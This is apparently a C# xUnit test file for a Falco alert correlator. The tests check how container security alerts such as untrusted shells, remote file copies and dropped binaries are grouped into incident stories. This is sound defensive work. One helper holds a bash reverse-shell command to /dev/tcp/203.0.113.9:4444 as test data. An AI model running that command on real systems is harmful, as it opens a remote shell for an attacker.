using FalcoStreamer.Alerts;
using FalcoStreamer.Correlation;
using FalcoStreamer.Enrichment;
using FalcoStreamer.Tests.Support;

namespace FalcoStreamer.Tests.Correlation;

/// <summary>Alerts that together are an attack become one story.</summary>
public sealed class SequenceTests
{
    private const string Shell = "Run shell untrusted";
    private const string Fetch = "Launch Ingress Remote File Copy Tools in Container";
    private const string Drop = "Drop and execute new binary in container";

    private readonly Correlator _correlator = new(Shipped.Behaviours, new CorrelationOptions());
    private readonly List<IncidentChange> _changes = [];
    private readonly Subject _subject = SomePods.Subject(SomePods.Pod(SomePods.Container()));

    [Fact]
    public void LetsTheFirstIncidentLead_AndTheOthersPointToIt()
    {
        var shell = Add(Shell, 0);
        var fetch = Add(Fetch, 5);
        var drop = Add(Drop, 8);

        var latest = Latest();
        Assert.Equal([shell, fetch, drop], latest.Keys);
        Assert.All(latest.Values, incident => Assert.Equal(shell, incident.Judgement.Sequence?.Id));
        Assert.All(latest.Values, incident => Assert.Equal(3, incident.Judgement.Story.Count));
    }

    [Fact]
    public void PutsWhatGoesOnIntoTheLeadingIncident_AndLosesNoAlert()
    {
        var shell = Add(Shell, 0);
        Add(Fetch, 1);
        Add(Drop, 2);

        Assert.Equal(shell, Add("Contact K8S API Server From Container", 100));
        Assert.Equal(shell, Add(Drop, 200, "y"));

        var closed = CloseAll();
        Assert.Equal(5, closed.Sum(incident => incident.Count));
        Assert.Equal(3, closed.Single(incident => incident.Id == shell).Count);
    }

    [Fact]
    public void TellsTheChangeOnce_WhenStepsRepeat()
    {
        Add(Shell, 0);
        Add(Fetch, 1);
        Add(Drop, 2);
        _changes.Clear();

        for (var i = 0; i < 100; i++)
        {
            Add(Drop, 3 + (i * 0.01));
        }

        Assert.DoesNotContain(_changes, change => change.Kind == IncidentChangeKind.Rejudged);
    }

    [Fact]
    public void TellsEverySequenceInOneStory_UnderTheMostSeriousHeadline()
    {
        var shell = Add(Shell, 0);
        Add(Fetch, 1);
        Add(Drop, 2);
        Add("Mount Launched in Privileged Container", 3, "mount");

        var judgement = Latest()[shell].Judgement;
        Assert.Equal("attack-escape", judgement.Behaviour!.Id);
        Assert.Equal(4, judgement.Story.Count);
        Assert.Equal(4, judgement.For.Count);
        Assert.Equal(judgement.Story.Select(line => line.Time).Order(), judgement.Story.Select(line => line.Time));
    }

    [Fact]
    public void KeepsAnOddThingUndetermined_WhenTheRestIsExplained()
    {
        Add(SomePods.CalicoAlert("A"), SomePods.CalicoSubject());
        Add(SomePods.CalicoAlert("B", After(0.1)), SomePods.CalicoSubject());
        Add(Alert(Drop, 5), SomePods.CalicoSubject());

        Assert.Equal([Verdict.Benign, Verdict.Undetermined], CloseAll().Select(incident => incident.Judgement.Verdict).Order());
    }

    [Fact]
    public void ReopensWhatWasExplained_WhenItTurnsOutToBeTheFirstStep()
    {
        var calico = Add(SomePods.CalicoAlert("A"), SomePods.CalicoSubject());
        _correlator.Advance(After(15), _changes);
        Add(Alert(Fetch, 20), SomePods.CalicoSubject());
        Add(Alert(Drop, 25), SomePods.CalicoSubject());

        var reopened = Latest()[calico];
        Assert.Equal(Verdict.Suspicious, reopened.Judgement.Verdict);
        Assert.NotEqual(calico, reopened.Judgement.Sequence!.Id);
        Assert.Contains("by itself was explained", reopened.Judgement.Story[0].Step, StringComparison.Ordinal);
        Assert.Equal(2, reopened.Judgement.For.Count);
    }

    [Fact]
    public void ReopensWhatWasExplained_WhenOneAlertIsAnAttack()
    {
        var calico = Add(SomePods.CalicoAlert("A"), SomePods.CalicoSubject());
        var attack = Add(ReverseShell(60), SomePods.CalicoSubject());

        var reopened = Latest()[calico];
        Assert.Equal((Verdict.Suspicious, attack), (reopened.Judgement.Verdict, reopened.Judgement.Sequence!.Id));
        Assert.Equal("attack-reverse-shell-command", reopened.Judgement.Behaviour!.Id);
        Assert.Equal(2, CloseAll().Sum(incident => incident.Count));
    }

    [Theory]
    [InlineData(601)]
    [InlineData(-1)]
    public void LeavesWhatWasExplainedAlone_WhenTheAttackIsLongAfterOrBefore(int seconds)
    {
        var calico = Add(SomePods.CalicoAlert("A"), SomePods.CalicoSubject());
        Add(ReverseShell(seconds), SomePods.CalicoSubject());

        Assert.Equal(Verdict.Benign, Latest()[calico].Judgement.Verdict);
    }

    [Fact]
    public void SaysOnEachPod_WhereTheStoryIs_WhenItSpreads()
    {
        var ids = Enumerable.Range(0, 3).Select(i => Add(Alert(Shell, i * 60), OnPod(i))).ToList();

        var latest = Latest();
        Assert.All(ids, id => Assert.Equal("spread", latest[id].Judgement.Behaviour?.Id));
        Assert.All(ids, id => Assert.Equal("pod-0", latest[id].Judgement.Sequence!.Leader.Name));
        Assert.Equal(["pod-0", "pod-1", "pod-2"], latest[ids[2]].Judgement.Story.Select(line => line.Where.Name));
    }

    [Fact]
    public void ForgetsTheQuietestFirst_WhenTenThousandContainersHaveASequenceUnderWay()
    {
        var correlator = new Correlator(Shipped.Behaviours, new CorrelationOptions { MaxOpenIncidents = 1_000 });
        for (var i = 0; i < 10_000; i++)
        {
            var alert = Alert(Shell, i * 0.001, $"x{i}");
            correlator.Add(alert, OnPod(i), alert.Time, _changes);
            _changes.Clear();
        }

        Assert.Equal(1_000, correlator.OpenIncidents);
        Assert.InRange(correlator.Evictions, 9_000, 90_000);
    }

    [Fact]
    public void SaysTheSame_WhenTheSameAlertsComeAgain()
    {
        Assert.Equal(Run(), Run());

        static List<string> Run()
        {
            var correlator = new Correlator(Shipped.Behaviours, new CorrelationOptions());
            var changes = new List<IncidentChange>();
            foreach (var alert in Recordings.HttpAlerts())
            {
                var subject = new Subject { Kind = SubjectKind.Unresolved, Resolution = Resolution.None, ContainerId = alert.Field("container.id").ToStringOrNull() };
                correlator.Advance(alert.Time, changes);
                correlator.Add(alert, subject, alert.Time, changes);
            }

            correlator.CloseAll(changes);
            return [.. changes.Select(change => $"{change.Kind} {change.Incident.Id} {change.Incident.Count} {change.Incident.Judgement.Verdict} {change.Incident.Judgement.Confidence}")];
        }
    }

    private static AlertTime After(double seconds) => Some.Time + TimeSpan.FromSeconds(seconds);

    private static FalcoAlert Alert(string rule, double seconds, string program = "x") =>
        Some.Alert(rule, time: After(seconds), fields: [("proc.name", program), ("proc.cmdline", program), ("proc.pname", "app"), ("proc.tty", 0)]);

    private static FalcoAlert ReverseShell(double seconds) => Some.Alert(
        Shell, time: After(seconds), fields: [("proc.name", "bash"), ("proc.cmdline", "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), ("proc.pname", "app"), ("proc.tty", 0)]);

    private static Subject OnPod(int number) => SomePods.Subject(
        SomePods.Pod(SomePods.Container(), $"pod-{number}") with { Uid = $"uid-{number}" }, new Workload("Deployment", $"app-{number}"));

    private string Add(string rule, double seconds, string program = "x") => Add(Alert(rule, seconds, program), _subject);

    private string Add(FalcoAlert alert, Subject subject) => _correlator.Add(alert, subject, alert.Time, _changes).Incident.Id;

    private Dictionary<string, Incident> Latest() =>
        _changes.GroupBy(change => change.Incident.Id).ToDictionary(group => group.Key, group => group.Last().Incident);

    private List<Incident> CloseAll()
    {
        _correlator.CloseAll(_changes);
        return [.. Latest().Values];
    }
}
